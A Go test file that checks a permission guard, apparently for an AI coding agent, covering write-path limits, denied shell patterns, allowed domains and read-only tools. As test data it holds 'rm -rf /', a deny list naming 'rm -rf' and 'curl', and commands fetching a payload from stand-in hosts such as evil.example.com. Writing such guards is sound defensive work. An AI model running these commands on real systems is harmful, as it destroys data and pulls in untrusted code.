package session

import "testing"

func TestPermissionGuard_WritePathRestriction(t *testing.T) {
	g := &PermissionGuard{AllowedWritePaths: []string{"/repo/app"}}

	tests := []struct {
		name  string
		path  string
		allow bool
	}{
		{"exact prefix dir", "/repo/app", true},
		{"file under prefix", "/repo/app/main.go", true},
		{"sibling prefix collision", "/repo/app-other/main.go", false},
		{"outside prefix", "/repo/other/main.go", false},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			allow, reason := g.Check("Write", map[string]any{"file_path": tt.path})
			if allow != tt.allow {
				t.Errorf("Check(%q) = (%v, %q), want allow=%v", tt.path, allow, reason, tt.allow)
			}
			if !tt.allow && reason == "" {
				t.Error("expected a non-empty reason when denied")
			}
		})
	}
}

func TestPermissionGuard_BashDeniedPatterns(t *testing.T) {
	g := &PermissionGuard{DeniedBashPatterns: []string{"rm -rf", "curl "}}

	allow, _ := g.Check("Bash", map[string]any{"command": "ls -la"})
	if !allow {
		t.Error("expected ls -la to be allowed")
	}

	allow, reason := g.Check("Bash", map[string]any{"command": "rm -rf /"})
	if allow {
		t.Error("expected rm -rf to be denied")
	}
	if reason == "" {
		t.Error("expected a reason for the denial")
	}
}

func TestPermissionGuard_AllowedDomains(t *testing.T) {
	allowed := map[string]bool{"github.com": true, "proxy.golang.org": true}
	g := &PermissionGuard{AllowedDomains: func(domain string) bool { return allowed[domain] }}

	tests := []struct {
		name    string
		command string
		allow   bool
	}{
		{"no url at all", "go build ./...", true},
		{"allowed host", "git clone https://github.com/foreman-dev/foreman", true},
		{"disallowed host", "curl https://evil.example.com/payload.sh", false},
		{"disallowed host via wget", "wget http://attacker.test/x", false},
		{"ssh url to allowed host", "git clone ssh://git@github.com/foo/bar.git", true},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			allow, reason := g.Check("Bash", map[string]any{"command": tt.command})
			if allow != tt.allow {
				t.Errorf("Check(%q) = (%v, %q), want allow=%v", tt.command, allow, reason, tt.allow)
			}
		})
	}
}

func TestPermissionGuard_ReadOnlyToolsAlwaysAllowed(t *testing.T) {
	g := &PermissionGuard{AllowedWritePaths: []string{"/repo/app"}, DeniedBashPatterns: []string{"rm"}}

	for _, tool := range []string{"Read", "Grep", "Glob", "ListDir"} {
		allow, _ := g.Check(tool, map[string]any{"command": "rm -rf /", "file_path": "/outside"})
		if !allow {
			t.Errorf("tool %s should always be allowed by the guard", tool)
		}
	}
}

func TestPermissionGuard_NoRestrictionsIsInactive(t *testing.T) {
	g := &PermissionGuard{}
	if g.Active() {
		t.Error("guard with no restrictions should be inactive")
	}
	allow, _ := g.Check("Write", map[string]any{"file_path": "/anywhere"})
	if !allow {
		t.Error("guard with no restrictions should allow everything")
	}
}
